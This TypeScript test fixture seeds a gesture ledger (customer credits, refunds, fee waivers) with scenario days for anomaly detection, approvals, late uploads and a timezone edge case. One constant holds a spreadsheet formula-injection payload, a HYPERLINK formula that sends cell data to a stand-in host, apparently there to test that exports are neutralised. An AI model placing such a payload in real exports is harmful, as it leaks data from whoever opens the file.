import type { CallerRole, Principal } from '#auth';
import { samplePolicy, type GestureType, type StaffRole } from '#domain';
import { createEmbeddedEventStore, type EventStore, type RecordedEvent } from '#event-store';
import { GestureLedger, type RequestContext, type Result } from '#ledger';
import { readWholeLog } from './project-log.js';

/**
 * A realistic log written through the real `GestureLedger` (so every event is one the deciders made),
 * with the clock moved by hand. Each scenario day holds exactly one kind of anomaly; `cleanDay` none.
 */
export const fixtureDays = {
  clean: '2025-03-03',
  split: '2025-03-04',
  favoured: '2025-03-05',
  nearThreshold: '2025-03-06',
  peerOutlier: '2025-03-07',
  decisions: '2025-03-10',
  /** One gesture late that evening in Chicago, which is already the next day in UTC. */
  evening: '2025-03-12',
} as const;

/** 22:30 in Chicago (CDT, UTC−5) on the evening day. */
export const eveningGestureAt = '2025-03-13T03:30:00.000Z';

/** A reason code a spreadsheet would run as a formula, on a refused gesture (nothing posted, the line kept all the same). */
export const formulaReasonCode = '=HYPERLINK("http://x.example/?"&A1,"click")';

export const storeA = 'chicago-loop';
export const storeB = 'la-santa-monica';

export interface FinanceFixture {
  store: EventStore;
  events: RecordedEvent[];
  /** When the late upload (a gesture that occurred on the decisions day at 09:00) was recorded. */
  lateUploadRecordedAt: string;
  /** Just before the escalation on the decisions day was approved. */
  beforeApproval: string;
  escalatedGestureId: string;
  /** Refused on the decisions day, recorded last, with `formulaReasonCode`. */
  formulaGestureId: string;
  approverId: string;
  close(): Promise<void>;
}

const staff: Array<[string, StaffRole, string]> = [
  ['ana', 'associate', storeA],
  ['ben', 'associate', storeA],
  ['cai', 'associate', storeA],
  ['dee', 'associate', storeA],
  ['eli', 'associate', storeB],
  ['sam', 'senior_associate', storeA],
  ['sue', 'supervisor', storeA],
];

export async function financeFixture(): Promise<FinanceFixture> {
  const store = await createEmbeddedEventStore({ dataDir: 'memory://' });
  let now = new Date('2025-03-01T08:00:00.000Z');
  const ledger = new GestureLedger(store, { clock: () => now });
  await ledger.start(samplePolicy());
  const admin = ctx('admin-1', ['admin'], null);
  for (const [employeeId, role, storeId] of staff) ok(await ledger.allocateBudget({ employeeId, role, storeId, idempotencyKey: `enrol-${employeeId}` }, admin));

  let n = 0;
  const at = (day: string, time: string) => `${day}T${time}:00.000Z`;
  const gesture = async (employeeId: string, customerId: string, amountMinor: number, occurredAt: string, over: { type?: GestureType; reasonCode?: string; recordedAt?: string } = {}) => {
    now = new Date(over.recordedAt ?? occurredAt);
    const home = staff.find(([id]) => id === employeeId)!;
    const result = await ledger.requestGesture(
      {
        employeeId,
        customerId,
        gestureType: over.type ?? 'goodwill_credit',
        amountMinor,
        currency: 'USD',
        channel: 'pos',
        storeId: home[2],
        reasonCode: over.reasonCode ?? 'service_failure',
        note: 'made it right, "quoted", with a comma',
        occurredAt,
        idempotencyKey: `g-${n++}`,
      },
      // A late upload comes from the store's till (its offline queue): staff sessions record gestures as they happen.
      over.recordedAt === undefined ? ctx(employeeId, [home[1]], home[2]) : ctx(`till-${home[2]}`, ['pos-system'], home[2]),
    );
    return ok(result);
  };

  // Clean: three employees of one store, ordinary amounts, different customers, hours apart.
  await gesture('ana', 'c-1', 1_000, at(fixtureDays.clean, '14:00'));
  await gesture('ben', 'c-2', 1_200, at(fixtureDays.clean, '15:00'));
  await gesture('cai', 'c-3', 1_500, at(fixtureDays.clean, '16:00'), { type: 'fee_waiver', reasonCode: 'late_fee' });

  // Split: three grants to one customer within half an hour, 6,000 in all above the 5,000 cap.
  for (const time of ['14:00', '14:10', '14:25']) await gesture('ana', 'c-split', 2_000, at(fixtureDays.split, time));

  // Favoured: five gestures, two hours apart, all to the same customer.
  for (const time of ['14:00', '16:00', '18:00', '20:00', '22:00']) await gesture('ben', 'c-fav', 1_000, at(fixtureDays.favoured, time));

  // Just under the 2,500 auto-approval limit, three times, to different customers.
  for (const [time, customer] of [['14:00', 'c-n1'], ['16:00', 'c-n2'], ['18:00', 'c-n3']] as const) await gesture('cai', customer, 2_400, at(fixtureDays.nearThreshold, time));

  // Peer outlier: dee spends 4,000 where ana and ben spend 1,000 each (median 1,000).
  await gesture('ana', 'c-p1', 1_000, at(fixtureDays.peerOutlier, '14:00'));
  await gesture('ben', 'c-p2', 1_000, at(fixtureDays.peerOutlier, '15:00'));
  await gesture('dee', 'c-p3', 2_000, at(fixtureDays.peerOutlier, '16:00'));
  await gesture('dee', 'c-p4', 2_000, at(fixtureDays.peerOutlier, '18:00'));

  // Decisions: an escalation approved in part, one denied, a grant reversed, a refusal, a late upload.
  const d = fixtureDays.decisions;
  const escalated = await gesture('eli', 'c-e1', 4_000, at(d, '14:00'), { type: 'refund_outside_policy', reasonCode: 'damaged_item' });
  const denied = await gesture('ana', 'c-e2', 3_000, at(d, '14:05'));
  const reversed = await gesture('ben', 'c-r1', 900, at(d, '14:10'));
  await gesture('eli', 'c-x1', 9_999_000, at(d, '14:15'));
  const beforeApproval = at(d, '14:19');
  now = new Date(at(d, '14:20'));
  ok(await ledger.approveGesture(escalated.gestureId, { approvedAmountMinor: 3_500, reasonCode: 'goodwill', note: 'partial' }, ctx('eli-sup', ['supervisor'], storeB)));
  now = new Date(at(d, '14:22'));
  ok(await ledger.denyGesture(denied.gestureId, { reasonCode: 'no_reason', note: null }, ctx('sam', ['senior_associate'], storeA)));
  now = new Date(at(d, '14:24'));
  ok(await ledger.reverseGesture(reversed.gestureId, { reasonCode: 'mistake', note: null }, ctx('sue', ['supervisor'], storeA)));
  const lateUploadRecordedAt = at(d, '17:00');
  await gesture('cai', 'c-late', 700, at(d, '09:00'), { recordedAt: lateUploadRecordedAt });

  // Feedback on gestures: two CSAT answers and a compliment for ana, a complaint for ben.
  const feedback = async (id: string, customerId: string, gestureId: string, kind: 'csat' | 'compliment' | 'complaint', score: number | null, time: string) => {
    now = new Date(at(d, time));
    ok(await ledger.recordFeedback({ customerId, feedbackId: id, kind, score, gestureId, occurredAt: at(d, time) }, ctx('crm-1', ['crm'], null)));
  };
  const anaClean = (await store.readAll({ from: 'start', limit: 1_000 })).find((e) => e.type === 'GestureGranted' && (e.data as { employeeId: string }).employeeId === 'ana')!;
  const anaGesture = (anaClean.data as { gestureId: string }).gestureId;
  await feedback('f-1', 'c-1', anaGesture, 'csat', 5, '18:00');
  await feedback('f-2', 'c-1', anaGesture, 'csat', 4, '18:01');
  await feedback('f-3', 'c-1', anaGesture, 'compliment', null, '18:02');
  await feedback('f-4', 'c-r1', reversed.gestureId, 'complaint', null, '18:03');

  await gesture('dee', 'c-evening', 1_300, eveningGestureAt);
  const formula = await gesture('eli', 'c-x2', 9_999_000, at(d, '15:00'), { reasonCode: formulaReasonCode, recordedAt: '2025-03-14T10:00:00.000Z' });

  const events = await readWholeLog(store);
  return { store, events, lateUploadRecordedAt, beforeApproval, escalatedGestureId: escalated.gestureId, formulaGestureId: formula.gestureId, approverId: 'eli-sup', close: () => store.close() };
}

function ctx(subject: string, roles: CallerRole[], storeId: string | null): RequestContext {
  const principal: Principal = { subject, roles, storeId };
  return { principal, correlationId: `fixture-${subject}` };
}

function ok<T>(result: Result<T>): T {
  if (result.kind !== 'ok') throw new Error(`fixture step failed: ${JSON.stringify(result)}`);
  return result.value;
}
